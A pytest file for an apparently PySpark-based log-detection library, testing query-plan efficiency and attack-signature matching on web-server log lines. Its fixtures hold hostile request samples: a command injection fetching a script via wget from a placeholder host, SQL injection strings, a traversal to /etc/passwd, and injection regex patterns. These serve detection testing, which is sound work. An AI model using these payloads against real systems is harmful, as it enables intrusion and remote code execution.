"""What is costly stands once in the plan: a test of a line is neither repeated by a filter nor for every term."""

import pytest
from pyspark.sql import functions as F

from conftest import lines_df
from loghound.operators import rules as R
from loghound.operators import windows as win
from loghound.operators.parse import parse_lines, requests_only
from loghound.operators.shell_rules import shell_client_errors
from loghound.operators.signatures import core_signature_hits, gated_match, shell_profile_hits
from loghound.plans import core
from loghound.plans.materialize import materialize

URLS = ["/", "/a?q=union%20all%20select%201", "/x;wget%20http://a.example/k.sh", "/r?f=..%2f..%2fetc%2fpasswd", "/update?set=1", "/u.html"]


@pytest.fixture(scope="module")
def requests(spark):
    lines = [f'198.51.100.7 - - [01/Aug/2025:10:00:00 +0000] "GET {u} HTTP/1.1" 404 5' for u in URLS]
    lines.append("[Fri Aug 01 10:00:00 2025] [error] [client 198.51.100.7] user admin not found: ../%2e%2e/union select")
    return materialize(requests_only(parse_lines(lines_df(spark, lines))), "plan-test")


def plan(df):
    return df._jdf.queryExecution().optimizedPlan().toString()


def test_commands_and_json_of_a_request_are_read_once(spark):
    text = plan(parse_lines(lines_df(spark, ["x"])))
    assert text.count("lower(") <= 2 and "StartsWith(_body" in text


def test_commands_of_tls_lines(spark):
    asked = ["QuIt now", "LIST", "passport", "GET / HTTP/1.1", "noo", ""]
    lines = [f'[01/Aug/2025:10:00:00 +0900] 203.0.113.5 TLSv1.2 AES "{a}" 200' for a in asked]
    got = [(r.method, r.url) for r in parse_lines(lines_df(spark, lines)).orderBy("ord").collect()]
    assert got == [("NON_HTTP:quit", "QuIt now"), ("NON_HTTP:list", "LIST"), ("NON_HTTP:pass", "passport"), ("GET", "/"),
                   ("noo", "/"), ("SSL_EMPTY", "")]


def test_a_text_is_lowered_once_for_all_terms(requests, monkeypatch):
    assert "lambdafunction(Contains(lower(" not in plan(core.line_detections(requests))
    monkeypatch.setattr(R, "MAX_TESTS", 1)
    assert "lambdafunction(Contains(lower(" not in plan(core_signature_hits(requests))


def test_few_and_many_terms_give_the_same_hits(requests, monkeypatch):
    columns = ["ord", "sql_hit", "shell_hits", "shell_high", "trv_hit"]
    few = core_signature_hits(requests).select(columns).orderBy("ord").collect()
    monkeypatch.setattr(R, "MAX_TESTS", 1)
    assert core_signature_hits(requests).select(columns).orderBy("ord").collect() == few
    assert few[1].sql_hit is not None and few[2].shell_hits and few[3].trv_hit is not None


def test_signatures_without_clauses_or_terms(requests):
    def s(i, cnf, unless=()):
        return R.Signature(i, cnf, unless, "", False)

    rules = R.RuleSet((s("A", (("union",), ())), s("B", ()), s("C", (("select",), ("union", "zz")), ("%20",))), (), ())
    assert [r.sql_hit for r in core_signature_hits(requests, rules).orderBy("ord").collect()][:2] == [None, 1]


def test_a_filter_on_the_profile_hits_repeats_nothing(requests):
    hits = shell_profile_hits(requests, detailed=True).filter("sql_rx OR trv_rx")
    assert plan(hits).count("aggregate(") == 1
    assert [r.ord for r in hits.orderBy("ord").collect()] == [1, 3, 4]


def test_a_pattern_is_tried_where_its_own_literal_stands(spark):
    texts = ["union x select", "select", "drop tables", "a or 1=1", "sleep (", "onload=", "none"]
    df = spark.createDataFrame([(t,) for t in texts], "t string")
    patterns = [r"union.*select", r"drop.*table", r"sleep\s*\(", r"onload=", r"or.*1=1"]
    test = gated_match(F.col("t"), patterns)
    assert [r.m for r in df.select(test.alias("m")).collect()] == [True, False, True, True, True, True, False]
    assert test._jc.toString().lower().count("rlike") == 4


def test_first_errors_need_no_sort(spark):
    rows = spark.createDataFrame([("a", 5, 2, 404), ("a", None, 7, 400), ("a", 5, None, 401)], "ip string, ts_s bigint, ord bigint, status int")
    got = [r.ord for r in rows.orderBy(win.order_key()).collect()]
    assert got == [7, None, 2]
    for found in (win.client_errors(rows), shell_client_errors(rows)):
        assert "SortAggregate" not in found._jdf.queryExecution().executedPlan().toString()
